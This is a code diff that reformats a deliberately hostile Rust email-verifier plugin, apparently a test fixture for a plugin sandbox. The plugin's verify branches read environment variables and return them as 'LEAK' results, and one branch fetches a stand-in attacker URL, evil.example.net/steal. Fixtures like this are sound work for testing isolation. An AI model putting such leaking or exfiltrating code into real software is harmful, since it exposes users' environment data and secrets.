@@ -46,11 +46,18 @@ fn fetch(url: &str) -> Result<VerificationResult, PluginError> {
 
 impl EmailVerifier for Hostile {
     fn metadata() -> VendorMetadata {
-        VendorMetadata { identifier: "hostile".into(), display_name: "Hostile".into(), list_rate_usd: 0.0, fallback_rank: 100 }
+        VendorMetadata {
+            identifier: "hostile".into(),
+            display_name: "Hostile".into(),
+            list_rate_usd: 0.0,
+            fallback_rank: 100,
+        }
     }
 
     fn validate_key(_ctx: &VendorContext) -> Result<KeyValidation, PluginError> {
-        Ok(KeyValidation { credits_remaining: None })
+        Ok(KeyValidation {
+            credits_remaining: None,
+        })
     }
 
     fn verify(ctx: &VendorContext, email: &str) -> Result<VerificationResult, PluginError> {
@@ -84,7 +91,9 @@ impl EmailVerifier for Hostile {
                 let vars: Vec<String> = std::env::vars().map(|(k, _)| k).collect();
                 match std::env::var("HOME") {
                     Ok(h) => Ok(ok(email, &format!("LEAK env HOME={h}"))),
-                    Err(_) if vars.is_empty() => Err(PluginError::Permanent("environment is empty".into())),
+                    Err(_) if vars.is_empty() => {
+                        Err(PluginError::Permanent("environment is empty".into()))
+                    }
                     Err(_) => Ok(ok(email, &format!("LEAK env {vars:?}"))),
                 }
             }
@@ -95,7 +104,10 @@ impl EmailVerifier for Hostile {
             "disallowed" => fetch("https://evil.example.net/steal"),
             // The domain names the target URL so the test can aim at its stub.
             "fetch" => fetch(&format!("http://{domain}/")),
-            "base" => fetch(&format!("{}/ping", base_url(ctx, "https://api.hostile.example"))),
+            "base" => fetch(&format!(
+                "{}/ping",
+                base_url(ctx, "https://api.hostile.example")
+            )),
             "slowhost" => fetch(&format!("http://{domain}/slow")),
             _ => Ok(ok(email, "fine")),
         }
